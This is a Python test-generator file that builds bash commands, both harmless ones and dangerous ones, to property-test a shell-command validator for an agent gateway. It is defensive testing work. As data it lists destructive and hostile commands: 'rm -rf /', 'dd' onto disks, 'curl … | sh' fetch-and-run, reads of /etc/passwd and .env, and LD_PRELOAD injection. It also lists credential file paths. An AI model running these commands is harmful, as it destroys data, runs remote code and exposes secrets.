"""Generators of shell commands from the grammar bash accepts.

A command is generated as *meaning* first (argv lists: what bash would pass to the program)
and then *spelled*: each word is split into chunks written raw, single-quoted, double-quoted,
backslash-escaped or spliced with empty quotes, all of which bash decodes back to the same
argv. Dangerous constructs are then inserted into the spelled text at word boundaries or
spliced into words, each with the reason code the validator must give for it.

Nothing here calls the validator: the generators only know bash, the sample project on disk
(tests/property/support.py) and the rules' public contract.
"""

import string
from dataclasses import dataclass, field

from hypothesis import strategies as st

from tests.property import known_bugs
from tests.property.support import INSIDE_DIRS, INSIDE_FILES, INSIDE_NEW

# --- spelling -------------------------------------------------------------------------------

# Characters that mean nothing to bash inside an unquoted word (anywhere in it).
RAW_SAFE = frozenset(string.ascii_letters + string.digits + "_-./,:@%+=")
# Characters a double-quoted string must escape.
DQ_ESCAPE = '\\"$`'

PLAIN_STYLES = ("raw", "sq", "dq", "bs")
ALL_STYLES = PLAIN_STYLES + ("ansi", "locale")


def _render_chunk(chunk: str, style: str) -> str:
    if style == "raw":
        return chunk
    if style == "sq":
        return "'" + chunk + "'"
    if style == "dq":
        return '"' + "".join("\\" + c if c in DQ_ESCAPE else c for c in chunk) + '"'
    if style == "bs":
        return "".join("\\" + c for c in chunk)
    if style == "ansi":
        return "$'" + "".join(f"\\x{ord(c):02x}" if ord(c) < 128 else c for c in chunk) + "'"
    if style == "locale":
        return '$"' + "".join("\\" + c if c in DQ_ESCAPE else c for c in chunk) + '"'
    raise ValueError(style)


def style_ok(chunk: str, style: str) -> bool:
    """Can `chunk` be written in `style` so that bash decodes it back exactly?"""
    if style == "raw":
        return bool(chunk) and all(c in RAW_SAFE for c in chunk)
    if style == "sq":
        return "'" not in chunk
    if style == "dq":
        return "!" not in chunk  # interactive bash would expand it
    if style == "bs":
        return bool(chunk) and "\n" not in chunk  # backslash-newline is a continuation
    if style == "ansi":
        return "\n" not in chunk and "'" not in chunk
    if style == "locale":
        return "!" not in chunk
    return False


def canonical(value: str) -> str:
    """The plainest spelling: raw when possible, else single quotes, else a mix."""
    if value and all(c in RAW_SAFE for c in value):
        return value
    if "'" not in value:
        return "'" + value + "'"
    return "'" + value.replace("'", "'\\''") + "'"


def spell(value: str, rng, styles=PLAIN_STYLES) -> str:
    """A spelling of `value` that bash decodes to exactly `value`. `rng` (a random.Random
    seeded from a hypothesis draw) picks the chunks and styles; None gives the canonical
    spelling, which is what the shrinker converges to (seed 0)."""
    if rng is None:
        return canonical(value)
    if value == "":
        return rng.choice(["''", '""'])
    n = len(value)
    cuts = sorted(rng.sample(range(1, n), min(n - 1, rng.randint(0, 3)))) if n > 1 else []
    bounds = [0] + cuts + [n]
    out = []
    for a, b in zip(bounds, bounds[1:], strict=False):
        chunk = value[a:b]
        options = [s for s in styles if style_ok(chunk, s)]
        out.append(_render_chunk(chunk, rng.choice(options)) if options else canonical(chunk))
        if rng.random() < 0.1:
            out.append(rng.choice(["''", '""']))
    return "".join(out)


def rng_of(seed):
    import random

    return random.Random(seed) if seed else None


# a seed for the spelling choices: shrinks to 0, the canonical spelling
seeds = st.integers(0, 2**32)


@st.composite
def spelled(draw, value: str, styles=PLAIN_STYLES) -> str:
    return spell(value, rng_of(draw(seeds)), styles)


def spell_all(argv, rng, styles=PLAIN_STYLES, name_plain=True):
    return [v if i == 0 and name_plain else spell(v, rng, styles) for i, v in enumerate(argv)]


SEPARATORS = [" ", " ", " ", "  ", "\t", " \\\n  "]


def join_words(words, rng) -> str:
    text = words[0]
    for w in words[1:]:
        text += (rng.choice(SEPARATORS) if rng else " ") + w
    return text


# --- values ---------------------------------------------------------------------------------

WORDCHARS = string.ascii_letters + string.digits + "_"
TEXT_ALPHABET = (string.ascii_letters + string.digits + " _-./,:@%+=#~*?[]{}()<>|&;!$`'\"\\^"
                 + "\n\téü日")
# bashlex 0.18 read single-quoted text glued to more text (x'`') as unquoted; since
# gateway.shell.bashlex_fixes it does not, and the allowed base commands use every character
BASE_TEXT_ALPHABET = TEXT_ALPHABET

# text for arguments read as plain text (echo, commit messages): anything printable
text_value = st.text(BASE_TEXT_ALPHABET, min_size=1, max_size=12)
# a grep/sed-free pattern: no leading '-', no '=' (k=v arguments are path candidates)
pattern_value = st.text(string.ascii_letters + string.digits + " _.^*[]\\|()", min_size=1,
                        max_size=8).filter(lambda s: not s.startswith("-"))
_SECRET_WORDS = ("id_rsa", "id_dsa", "id_ecdsa", "id_ed25519", "_netrc", "credentials")
plain_word = st.text(WORDCHARS, min_size=1, max_size=8).filter(
    lambda w: not w.lower().startswith(_SECRET_WORDS))
number = st.integers(0, 999).map(str)


@st.composite
def inside_path(draw, files=True, dirs=True, new=False):
    """A path that is inside the project whichever way it is resolved."""
    pool = (INSIDE_FILES if files else []) + (INSIDE_DIRS if dirs else []) \
        + (INSIDE_NEW if new else [])
    p = draw(st.sampled_from(pool))
    how = draw(st.integers(0, 7))
    if how == 1:
        p = "./" + p
    elif how == 2:
        p = "src/../" + p
    elif how == 3:
        p = "{PROJECT}/" + p
    elif how == 4:
        p = "src/auth/../../" + p
    elif how == 5 and p != ".":
        p = p + ("/" if p in INSIDE_DIRS else "")
    return p


# Outside paths, by how they leave. The code is the one phase 5 gives for a path argument.
OUTSIDE_PLAIN = ["/etc/passwd", "/etc/hosts", "/tmp/x", "/", "/usr/bin", "../x", "../../etc/passwd",
                 "src/../../x", "scripts/../../../etc/passwd", "{PROJECT}/../x",
                 "{PROJECT}_evil/x", "//etc/passwd", "/./etc/hosts", "..", "src/../..",
                 "{PROJECT}/src/../../x"]
OUTSIDE_SYMLINK = ["lnk/passwd", "lnk", "scripts/tmplink/x", "scripts/tmplink", "uplink/x",
                   "uplink", "outfile", "chainout/passwd", "dangling", "./lnk/hosts",
                   "src/../lnk/hosts", "{PROJECT}/lnk/passwd", "inlink/../lnk/hosts"]
# The symlink-then-.. shape (kernel resolves the link before the ..): open bug.
OUTSIDE_SYMLINK_DOTDOT = ["lnk/../etc/passwd", "scripts/tmplink/../etc/passwd", "lnk/..",
                          "uplink/../../etc/hosts"]


@st.composite
def outside_path(draw):
    """(path, code): a path argument that resolves outside the project."""
    pools = [(OUTSIDE_PLAIN, "GW501"), (OUTSIDE_SYMLINK, "GW502")]
    if not known_bugs.is_open("symlink-dotdot"):
        pools.append((OUTSIDE_SYMLINK_DOTDOT, "GW501|GW502"))
    pool, code = draw(st.sampled_from(pools))
    return draw(st.sampled_from(pool)), code


SECRET_PATHS = [".env", "config/.env.production", "keys/server.pem", "notes.txt",
                "src/.env", "x/.aws/credentials", "id_rsa", "deploy.key", ".npmrc",
                "/home/u/.ssh/config", "/etc/ssl/private/x.pem", "{PROJECT}/.env",
                "./config/../.env", ".ssh/known_hosts", "credentials.json", ".env.local",
                "secrets.tfvars", ".git-credentials"]

COMPONENTS = ["..", ".", "src", "auth", "lnk", "inlink", "abslink", "uplink", "chain1",
              "chainout", "dangling", "scripts", "tmplink", "etc", "hosts", "x", "README.md",
              "back", "outfile", "tmp"]


LINKS = ["lnk", "uplink", "chainout", "dangling", "outfile", "scripts/tmplink", "inlink",
         "abslink", "chain1", "src/back"]


@st.composite
def random_path(draw):
    """Any path built from the project's names, `.`, `..` and the symlinks (classified by
    the oracle, never by the code under test). A third of them put `..` right after a
    symlink, where lexical and physical resolution part ways."""
    parts = draw(st.lists(st.sampled_from(COMPONENTS), min_size=1, max_size=4))
    if draw(st.integers(0, 2)) == 0:
        at = draw(st.integers(0, len(parts)))
        parts[at:at] = [draw(st.sampled_from(LINKS)), ".."]
    lead = draw(st.sampled_from(["", "", "", "./", "/", "{PROJECT}/"]))
    return lead + "/".join(parts)


# --- base commands --------------------------------------------------------------------------

@dataclass
class Cmd:
    """One simple command as bash passes it: argv, plus where paths may be put."""

    argv: list
    path_slots: list = field(default_factory=list)  # argv indexes holding a path argument
    can_add_path: bool = False  # appending a path argument keeps the meaning (cat, ls...)
    interpreter: bool = False  # argv[1 + flags] is a script run by an interpreter
    script_index: int = -1


def _flags(draw, letters, max_n=3):
    chosen = draw(st.lists(st.sampled_from(letters), max_size=max_n, unique=True))
    if not chosen:
        return []
    if draw(st.booleans()):
        return ["-" + "".join(chosen)]  # a cluster: -la
    return ["-" + c for c in chosen]


@st.composite
def cmd_ls(draw):
    argv = ["ls"] + _flags(draw, "laR1htrSAFd")
    paths = draw(st.lists(inside_path(), max_size=2))
    slots = list(range(len(argv), len(argv) + len(paths)))
    return Cmd(argv + paths, slots, can_add_path=True)


@st.composite
def cmd_cat(draw):
    argv = ["cat"] + _flags(draw, "nbAs", 2)
    paths = draw(st.lists(inside_path(dirs=False), min_size=1, max_size=3))
    return Cmd(argv + paths, list(range(len(argv), len(argv) + len(paths))), True)


@st.composite
def cmd_head_tail(draw):
    name = draw(st.sampled_from(["head", "tail"]))
    n = draw(number)
    form = draw(st.sampled_from([["-n", n], ["-n" + n], ["--lines=" + n], ["--lines", n],
                                 ["-c", n], []]))
    paths = draw(st.lists(inside_path(dirs=False), min_size=1, max_size=2))
    argv = [name] + form + paths
    return Cmd(argv, list(range(1 + len(form), len(argv))), True)


@st.composite
def cmd_wc(draw):
    argv = ["wc"] + _flags(draw, "lcwm", 2)
    paths = draw(st.lists(inside_path(dirs=False), min_size=1, max_size=2))
    return Cmd(argv + paths, list(range(len(argv), len(argv) + len(paths))), True)


@st.composite
def cmd_grep(draw):
    argv = ["grep"] + _flags(draw, "rnilcvwEFHo", 3)
    if draw(st.booleans()):
        argv += ["-e", draw(pattern_value)]
    else:
        argv += [draw(pattern_value)]
    if any("r" in f for f in argv[1:] if f.startswith("-") and not f.startswith("--")):
        # a recursive grep of a directory reads every file below it: the project's root,
        # config/ and keys/ hold secrets (GW506), so only files are certain to be allowed
        paths = draw(st.lists(inside_path(dirs=False), min_size=1, max_size=2))
    else:
        paths = draw(st.lists(inside_path(), max_size=2))
    return Cmd(argv + paths, list(range(len(argv), len(argv) + len(paths))), True)


@st.composite
def cmd_git(draw):
    sub = draw(st.sampled_from(["status", "log", "diff", "show", "branch", "log"]))
    glob = draw(st.sampled_from([[], [], ["--no-pager"], ["-C", "src"], ["-C", "."],
                                 ["-Csrc"]]))
    if sub == "status":
        rest = draw(st.sampled_from([[], ["-s"], ["--short"], ["-sb"], ["--porcelain"]]))
    elif sub == "log":
        rest = draw(st.lists(st.sampled_from(
            ["--oneline", "-n", "-5", "--max-count=3", "--format=%H %s", "--stat", "-p",
             "--graph", "--author=someone", "--since=2.weeks"]), max_size=3, unique=True))
        rest = [w if w != "-n" else "-n3" for w in rest]
    elif sub == "diff":
        rest = draw(st.sampled_from([[], ["HEAD"], ["--stat"], ["--cached"], ["HEAD~1"],
                                     ["--", "README.md"]]))
    elif sub == "show":
        rest = draw(st.sampled_from([["HEAD"], ["--stat", "HEAD"], []]))
    else:
        rest = draw(st.sampled_from([[], ["-a"], ["--list"], ["-v"]]))
    return Cmd(["git"] + glob + [sub] + rest)


@st.composite
def cmd_interpreter(draw):
    interp = draw(st.sampled_from(["python3", "python3", "bash", "sh", "python3.11"]))
    flags = {"python3": "uBsSEIO", "python3.11": "uB", "bash": "nxeuv", "sh": "nxeu"}[interp]
    argv = [interp] + _flags(draw, flags, 2)
    script = draw(st.sampled_from(
        ["scripts/foo.py", "./scripts/foo.py", "{PROJECT}/scripts/foo.py", "scripts/sub/bar.py",
         "scripts/run.sh", ".claude/hooks/h.sh"]))
    idx = len(argv)
    args = draw(st.lists(plain_word, max_size=3))
    return Cmd(argv + [script] + args, interpreter=True, script_index=idx)


@st.composite
def cmd_text(draw):
    name = draw(st.sampled_from(["echo", "printf", "echo"]))
    args = draw(st.lists(text_value, min_size=1, max_size=3))
    if name == "printf":
        args = [a.replace("%", "x") for a in args]
    if args[0].startswith("-"):
        args[0] = "x" + args[0]
    return Cmd([name] + args)


@st.composite
def cmd_misc(draw):
    return Cmd(draw(st.sampled_from([
        ["pwd"], ["date"], ["whoami"], ["date", "+%Y-%m-%d"], ["find", ".", "-name", "*.py"],
        ["find", "src", "-type", "f"], ["sort", "a.txt"], ["uniq", "-c", "a.txt"],
        ["cut", "-d,", "-f1", "a.txt"], ["diff", "a.txt", "file.txt"], ["sed", "-n", "1,5p",
                                                                          "a.txt"],
        ["awk", "{print $1}", "a.txt"], ["true"], ["basename", "/etc/passwd"],
        ["realpath", "src"], ["stat", "README.md"], ["du", "-sh", "src"],
        ["git", "log", "--format=%an <%ae>"], ["grep", "-rn", "TODO", "src"]])))


allowed_cmd = st.one_of(cmd_ls(), cmd_cat(), cmd_head_tail(), cmd_wc(), cmd_grep(), cmd_git(),
                        cmd_interpreter(), cmd_text(), cmd_misc())
path_cmd = st.one_of(cmd_ls(), cmd_cat(), cmd_head_tail(), cmd_wc(), cmd_grep())


# --- rendering a list of commands -----------------------------------------------------------

OPERATORS = [" && ", " || ", "; ", " | ", "\n", " ; ", "&&", "|"]


@dataclass
class Rendered:
    """A list of simple commands, spelled: segments of words and the operators between."""

    segs: list
    ops: list
    rng: object  # random.Random or None: the spelling/separator choices

    def text(self) -> str:
        return assemble(self.segs, self.ops, self.rng)


@st.composite
def rendered(draw, cmds, styles=PLAIN_STYLES):
    rng = rng_of(draw(seeds))
    segs = [spell_all(c.argv, rng, styles) for c in cmds]
    ops = [draw(st.sampled_from(OPERATORS)) for _ in cmds[1:]]
    return Rendered(segs, ops, rng)


def assemble(segs, ops, rng) -> str:
    text = join_words(segs[0], rng)
    for op, seg in zip(ops, segs[1:], strict=True):
        text += op + join_words(seg, rng)
    return text


# --- dangerous constructs -------------------------------------------------------------------

@dataclass
class Token:
    """A dangerous construct and the reason codes the validator may give for it."""

    kind: str  # word / splice / redirect / wrap / char / segment
    text: str
    codes: frozenset
    decision: str = "ask"
    tail: str = ""  # text appended after the whole command (here-doc bodies)


def _codes(*c):
    return frozenset(c)


# (no network fetchers: `bash scripts/x.sh "$(curl ...)"` is a deny rule of its own)
inner_cmd = st.sampled_from(["id", "rm -rf x", "cat /etc/passwd", "ls", "echo hi",
                             "python3 -c 1"])
# (HOME, PATH, $?, $$, $# and $0 are no secret: gateway.validator.textparams expands them
# and judges the words, so they are no dangerous token)
var_name = st.sampled_from(["X", "IFS", "_x1", "1", "@", "*", "!", "-", "GITHUB_TOKEN"])


@st.composite
def expansion_token(draw):
    """A word-level expansion bash would perform, as (text, code)."""
    # globs and braces in an argument are expanded on the file system and the words judged
    # (gateway.validator.globs): no dangerous token of their own; tests/property/
    # test_globs.py checks the expansion against bash
    kind = draw(st.sampled_from(["cmdsub", "backtick", "param", "param_brace", "ansi", "locale",
                                 "arith", "history"]))
    inner = draw(inner_cmd)
    if kind == "cmdsub":
        text, codes = f"$({inner})", _codes("GW201")
    elif kind == "backtick":
        text, codes = f"`{inner}`", _codes("GW201")
    elif kind == "param":
        text, codes = "$" + draw(var_name), _codes("GW202")
    elif kind == "param_brace":
        text = draw(st.sampled_from(["${X}", "${X:-/etc}", "${#X}", "${X/a/b}", "${!X}",
                                     "${X:0:1}"]))
        codes = _codes("GW202")
    elif kind == "ansi":
        text, codes = draw(st.sampled_from(["$'\\x72m'", "$'a'", "$'\\n'", "$''"])), \
            _codes("GW203")
    elif kind == "locale":
        text, codes = draw(st.sampled_from(['$"x"', '$""'])), _codes("GW203")
    elif kind == "arith":
        text = draw(st.sampled_from(["$((1+1))", "$[1+1]", "$(( x ))"]))
        codes = _codes("GW204", "GW302")  # bashlex does not implement arithmetic
    elif kind == "glob":
        text, codes = draw(st.sampled_from(["*", "?", "[ab]", "*.py", "x?", "[!a]"])), \
            _codes("GW207")
    elif kind == "brace":
        text, codes = draw(st.sampled_from(["{a,b}", "{1..3}", "x{,.bak}"])), _codes("GW208")
    else:
        text, codes = draw(st.sampled_from(["!!", "!x", "!-1", "!$"])), _codes("GW210")
    # inside double quotes, substitutions and parameters still expand
    if kind in ("cmdsub", "backtick", "param", "param_brace") and draw(st.booleans()):
        pre = draw(st.sampled_from(["", "a", " b "]))
        text = '"' + pre + text + '"'
    return text, codes


# A segment that makes a list or pipeline dangerous: (operator + command, code). (`curl`
# alone contacts nothing and is allowed since c25: what xargs adds to it is not known, GW715)
DANGEROUS_SEGMENTS = [
    (" | sh", "GW403"), (" | bash", "GW403"), (" | python3", "GW403"), (" | bash -s", "GW401"),
    (" | sh -", "GW403"), (" | xargs rm", "GW701"), (" | xargs -n1 curl", "GW715"),
    (" | tee out.txt", "GW721"), ("; rm x", "GW701"), (" && curl http://x.example", "GW790"),
    (" || node -e 1", "GW401"), ("\npython -c 1", "GW401"), (" && git push", "GW707"),
    ("; git -C . reset --hard", "GW707"), (" | perl -e 1", "GW401"), ("; eval ls", "GW304"),
    (" && source scripts/run.sh", "GW304"), ("; cd ..", "GW711"), (" | frobnicate", "GW703"),
    (" && cat /etc/passwd", "GW501"), ("; cat .env", "GW503"), (" | sudo ls", "GW701"),
    (" && python3 vendor/x.py", "GW601"), ("; chmod 777 a.txt", "GW721"),
]


@st.composite
def dangerous_token(draw):
    kind = draw(st.sampled_from(["expansion", "expansion", "tilde", "redirect", "procsub",
                                 "wrap", "background", "assign", "heredoc", "char", "input",
                                 "segment"]))
    if kind == "segment":
        text, code = draw(st.sampled_from(DANGEROUS_SEGMENTS))
        return Token("segment", text, _codes(code))
    if kind == "expansion":
        text, codes = draw(expansion_token())
        how = draw(st.sampled_from(["word", "splice"]))
        return Token(how, text, codes)
    if kind == "tilde":
        text = draw(st.sampled_from(["~", "~/x", "~root", "~+", "~-"]))
        return Token("word", text, _codes("GW209"))
    if kind == "redirect":
        op = draw(st.sampled_from([">", ">>", ">|", "&>", "&>>", "<>", "2>", "1>", ">&",
                                   "2>>"]))
        target = draw(st.sampled_from(["out.txt", "/tmp/x", "src/y", "a.txt", "/dev/sda1",
                                       ".claude/settings.json", "'o u t'"]))
        space = draw(st.sampled_from(["", " "]))
        if target.startswith("/dev/sd"):  # writing a block device: deny beats ask
            return Token("redirect", op + space + target, _codes("GW750"), "deny")
        return Token("redirect", op + space + target, _codes("GW213"))
    if kind == "input":
        target, code = draw(outside_path())
        return Token("redirect", "< " + target, _codes(*code.split("|")))
    if kind == "procsub":
        text = draw(st.sampled_from(["<(id)", ">(cat)", "<(cat /etc/passwd)"]))
        return Token("word", text, _codes("GW205"))
    if kind == "wrap":
        form = draw(st.sampled_from(["( {} )", "({})", "{{ {}; }}", "if true; then {}; fi",
                                     "for i in a; do {}; done", "while false; do {}; done",
                                     "f() {{ {}; }}", "until true; do {}; done",
                                     "case x in x) {};; esac", "time {}", "coproc {}",
                                     "! ( {} )"]))
        # bashlex implements neither case, time nor coproc (GW302); after a pipe `time` and
        # `!` are not keywords at all (bash too reports a syntax error there: GW301)
        # a for loop is unrolled when it stands alone (gateway.shell.loops); beside another
        # construct (a background job, a subshell) it is GW218
        codes = _codes("GW302", "GW301") if form.startswith(("case", "time", "coproc")) \
            else _codes("GW206", "GW301") if form.startswith("!") \
            else _codes("GW206", "GW218") if form.startswith("for") else _codes("GW206")
        return Token("wrap", form, codes)
    if kind == "background":
        return Token("wrap", draw(st.sampled_from(["{} &", "{}&", "{} & ls"])), _codes("GW214"))
    if kind == "assign":
        a = draw(st.sampled_from(["X=1", "PYTHONPATH=/tmp/evil", "LD_PRELOAD=x.so", "PATH=.",
                                  "GIT_DIR=/tmp", "IFS=/", "x="]))
        return Token("wrap", a + " {}", _codes("GW211"))
    if kind == "heredoc":
        delim = draw(st.sampled_from(["EOF", "'EOF'", '"EOF"', "-EOF", "X"]))
        body = draw(st.sampled_from(["hello", "$(id)", "a\nb", ""]))
        d = delim.strip("'\"-")
        # bashlex 0.18 wants a quoted delimiter with its quotes: GW301, fail-closed
        codes = _codes("GW212", "GW301") if delim[0] in "'\"" else _codes("GW212")
        return Token("redirect", "<<" + delim, codes, tail=f"\n{body}\n{d}")
    # a character bash or the terminal treats differently from how it looks
    ch = draw(st.sampled_from(["\r", "\x0b", "\x0c", "\x1b", "\x7f", "\x00", "\u00a0",
                               "\u200b", "\u2028", "\u202e", "\ufeff", "\u3000", "\x85"]))
    if ch == "\x00":
        codes = _codes("GW001")
    elif ch in "\r\x0b\x0c\x1b\x7f\x85":
        codes = _codes("GW101")
    else:
        codes = _codes("GW102")
    return Token("char", ch, codes)


@st.composite
def insert(draw, r, token):
    """The text of Rendered `r` with `token` put into a random segment."""
    segs = [list(s) for s in r.segs]
    ops = list(r.ops)
    i = draw(st.integers(0, len(segs) - 1))
    if "&" in token.text and token.kind == "wrap":
        i = len(segs) - 1  # `a & && b` is a syntax error: a background job ends the list
    seg = segs[i]
    tail = ""
    if token.kind == "word":
        seg.insert(draw(st.integers(1, len(seg))), token.text)
    elif token.kind == "splice":
        at = draw(st.integers(0, len(seg) - 1))
        if draw(st.booleans()) or at == 0:
            seg[at] = seg[at] + token.text
        else:
            seg[at] = token.text + seg[at]
    elif token.kind == "redirect":
        seg.insert(draw(st.integers(1, len(seg))), token.text)
        tail = token.tail
        if tail:
            # a here-doc body follows the line the here-doc is on: keep it the last line
            segs, ops = segs[:i + 1], ops[:i]
    elif token.kind == "wrap":
        segs[i] = [token.text.format(join_words(seg, r.rng))]
    elif token.kind == "segment":
        seg.append(token.text)  # glued after the segment's last word: ` | sh` etc.
    text = assemble(segs, ops, r.rng)
    if token.kind == "char":
        at = draw(st.integers(0, len(text)))
        return text[:at] + token.text + text[at:]
    return text + tail


@st.composite
def refused_command(draw, project):
    """A command that must not be allowed (one line, so it can be composed)."""
    kind = draw(st.sampled_from(["token", "token", "catastrophic", "always_ask", "outside"]))
    if kind == "token":
        cmd = _fill_cmd(draw(allowed_cmd), project)
        r = draw(rendered([cmd]))
        token = draw(dangerous_token())
        token.text = _fill(token.text, project)
        if token.kind == "char" or token.tail:
            token = Token("word", "$X", frozenset({"GW202"}))
        return draw(insert(r, token))
    if kind == "catastrophic":
        segs = draw(catastrophic())
        return " | ".join(" ".join(s) for s in segs)
    if kind == "always_ask":
        return draw(st.sampled_from(ALWAYS_ASK_SAMPLE)) + " a.txt"
    path, _code = draw(outside_path())
    return "cat " + _fill(path, project)


@st.composite
def any_command(draw, project):
    """Anything: allowed lists, refused commands, catastrophic ones, or random text."""
    kind = draw(st.integers(0, 4))
    if kind == 0:
        cmds = [_fill_cmd(draw(allowed_cmd), project) for _ in range(draw(st.integers(1, 2)))]
        return draw(rendered(cmds)).text()
    if kind in (1, 2):
        return draw(refused_command(project))
    if kind == 3:
        return " | ".join(" ".join(s) for s in draw(catastrophic()))
    return draw(st.text(TEXT_ALPHABET, max_size=30))


def _fill(value, project):
    return value.replace("{PROJECT}", project)


def _fill_cmd(cmd, project):
    cmd.argv = [_fill(a, project) for a in cmd.argv]
    return cmd


# --- wrappers -------------------------------------------------------------------------------

WRAPPERS = [["command"], ["env"], ["env", "-i"], ["env", "X=1"], ["env", "-u", "X"], ["nice"],
            ["nice", "-n", "5"], ["nice", "-n5"], ["timeout", "5"], ["timeout", "-s", "KILL",
                                                                     "5"],
            ["timeout", "-k", "1", "5s"], ["xargs"], ["xargs", "-0"], ["xargs", "-n", "1"],
            ["sudo"], ["sudo", "-u", "root"], ["sudo", "-E"], ["nohup"], ["stdbuf", "-oL"],
            ["ionice", "-c", "3"], ["/usr/bin/env"], ["/usr/bin/nice"], ["builtin"],
            ["command", "--"], ["sudo", "--"], ["setsid"]]
wrapper = st.sampled_from(WRAPPERS)


# --- known-dangerous simple commands --------------------------------------------------------

# (curl is modelled for the loopback: tests/property/test_curl_loopback.py)
ALWAYS_ASK_SAMPLE = ["rm", "wget", "ssh", "sudo", "kill", "dd",
                     "bun", "uvx", "conda", "podman", "python2", "zsh", "rsync", "truncate",
                     "systemctl", "crontab", "deno"]
#: The catalogue's edit entries: allowed only in acceptEdits (GW721 elsewhere).
EDIT_SAMPLE = ["cp", "mv", "chmod", "ln", "tee"]  # rm, rmdir: ALWAYS_ASK floors


@st.composite
def catastrophic(draw):
    """Segments (argv lists joined by a pipe) the deny rules must deny (GW750)."""
    kind = draw(st.sampled_from(["rm", "chmod", "mkfs", "dd", "pipe"]))
    if kind == "rm":
        flags = draw(st.sampled_from([["-rf"], ["-fr"], ["-r", "-f"], ["-R"], ["--recursive"],
                                      ["-rf", "--no-preserve-root"], ["-r"], ["-Rf"]]))
        target = draw(st.sampled_from(["/", "/*", "//", "/etc", "/usr/", "~", "$HOME", "/home",
                                       "/var", "///", "/etc/*"]))
        return [["rm"] + flags + [target]]
    if kind == "chmod":
        return [[draw(st.sampled_from(["chmod", "chown"])), "-R",
                 draw(st.sampled_from(["777", "nobody"])), draw(st.sampled_from(["/", "/etc"]))]]
    if kind == "mkfs":
        return [[draw(st.sampled_from(["mkfs", "mkfs.ext4", "wipefs", "mkswap"])), "/dev/sda1"]]
    if kind == "dd":
        return [["dd", "if=/dev/zero", "of=/dev/" + draw(st.sampled_from(["sda", "nvme0n1"]))]]
    fetch = draw(st.sampled_from([["curl", "-fsSL", "http://x.example/i.sh"],
                                  ["wget", "-qO-", "http://x.example"]]))
    return [fetch, [draw(st.sampled_from(["sh", "bash", "python3", "sudo"]))]]
